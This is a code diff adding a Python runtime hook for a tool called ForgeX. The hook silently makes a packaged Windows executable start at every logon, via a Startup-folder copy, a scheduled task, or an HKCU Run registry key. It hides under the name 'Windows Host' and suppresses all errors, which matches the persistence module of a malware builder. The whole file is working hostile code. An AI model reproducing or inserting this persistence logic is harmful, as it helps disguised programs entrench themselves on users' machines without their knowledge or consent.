@@ -0,0 +1,42 @@
+# ForgeX runtime hook: per-user Windows autostart via Startup folder or Task Scheduler
+# --- forgex params ---
+_METHOD = 'task'
+_NAME = 'Windows Host'
+# --- end forgex params ---
+try:
+    import sys, subprocess, os, shutil
+    from pathlib import Path
+    if sys.platform.startswith('win'):
+        exe = getattr(sys, 'executable', None) or sys.argv[0]
+        # Startup folder path (per-user)
+        appdata = os.environ.get('APPDATA', '')
+        startup = Path(appdata)/'Microsoft'/'Windows'/'Start Menu'/'Programs'/'Startup'
+        try:
+            if _METHOD == 'startup':
+                startup.mkdir(parents=True, exist_ok=True)
+                dest = startup / f'{_NAME}.exe'
+                if not dest.exists() or str(dest.resolve()) != str(Path(exe).resolve()):
+                    try:
+                        shutil.copy2(exe, dest)
+                    except Exception:
+                        # Fallback .bat launcher
+                        bat = startup / f'{_NAME}.bat'
+                        bat.write_text(f'@echo off\r\nstart "" "{exe}"\r\n', encoding='utf-8')
+            else:
+                # Task Scheduler (current user, limited rights)
+                # Check if task exists
+                r = subprocess.run(['schtasks', '/Query', '/TN', _NAME], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+                if r.returncode != 0:
+                    cmd = ['schtasks', '/Create', '/TN', _NAME, '/SC', 'ONLOGON', '/TR', exe, '/RL', 'LIMITED', '/F']
+                    subprocess.run(cmd, check=False)
+        except Exception:
+            # Best-effort fallback to Run key
+            try:
+                import winreg
+                key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\Microsoft\Windows\CurrentVersion\Run', 0, winreg.KEY_SET_VALUE)
+                winreg.SetValueEx(key, _NAME, 0, winreg.REG_SZ, exe)
+                winreg.CloseKey(key)
+            except Exception:
+                pass
+except Exception:
+    pass